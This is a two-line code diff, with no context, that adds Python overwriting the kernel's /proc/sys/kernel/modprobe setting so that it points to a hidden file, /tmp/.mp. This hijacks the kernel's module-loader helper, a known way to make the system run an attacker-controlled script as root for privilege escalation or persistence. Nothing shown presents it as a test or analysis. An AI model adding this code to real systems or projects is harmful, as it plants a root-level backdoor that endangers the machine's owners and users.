@@ -1,0 +1,2 @@
+with open("/proc/sys/kernel/modprobe", "w") as f:
+    f.write("/tmp/.mp\n")
